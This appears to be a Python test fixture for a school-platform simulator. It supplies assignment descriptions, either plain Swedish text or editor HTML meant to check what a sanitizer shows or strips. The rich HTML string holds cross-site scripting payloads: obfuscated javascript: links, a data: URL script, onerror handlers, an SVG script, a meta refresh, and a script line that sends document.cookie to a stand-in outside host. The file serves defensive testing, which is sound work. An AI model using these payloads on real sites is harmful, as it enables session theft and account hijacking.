"""What teachers write: HTML from an editor, with all that may hide in it."""

from upstream.simulator.coursework import Assignment
from upstream.simulator.state import State

PLAIN = "L&auml;s och svara p&aring; fr&aring;gorna."

# What an editor lets through, and what somebody may try: to be shown, or to be taken away.
RICH = """<p class="tinymce-p">R&auml;kna sid 84&ndash;91.&nbsp;</p>
<ul><li>Ta med linjal</li><li><strong>Inte</strong> mobil</li></ul>
<table class="table"><tbody><tr><td>E</td><td>10&nbsp;p</td></tr></tbody></table>
<p><a href="right_student_planning.jsp?requestid=7&type=1">Planering</a>
<a href="/bjorkdalen/jsp/student/right_student_library.jsp">Bibliotek</a>
<a href="https://larande.example/ma?kap=4&amp;del=2" target="_blank">L&auml;nk</a>
<a href="JaVa&#9;ScRiPt:alert(document.cookie)">Facit</a>
<a href=" javascript&colon;alert(1)">Mer</a>
<a href="data:text/html,<script>alert(1)</script>">Data</a></p>
<img src="showFileImage.jsp?fileid=7741&type=2" alt="Figur" onerror="alert(1)">
<img src=x onerror=alert(1)//>
<script>document.location="https://elsewhere.example/?"+document.cookie</script>
<svg><script>alert(1)</script></svg>
<iframe src="https://elsewhere.example/"></iframe>
<p style="background:url(javascript:alert(1))" onclick="alert(1)">Lycka till &#128077;!</p>
<meta http-equiv="refresh" content="0;url=https://elsewhere.example/"><p>Ej st&auml;ngd"""


def description_of(assignment: Assignment, state: State) -> str | None:
    """Usually rich for a test, plain for what is handed in, none for homework."""
    forms = {"script": RICH, "plain": PLAIN, "null": None}
    wish = state.settings.descriptions
    return forms[("script", "plain", "null")[assignment.index] if wish == "mixed" else wish]
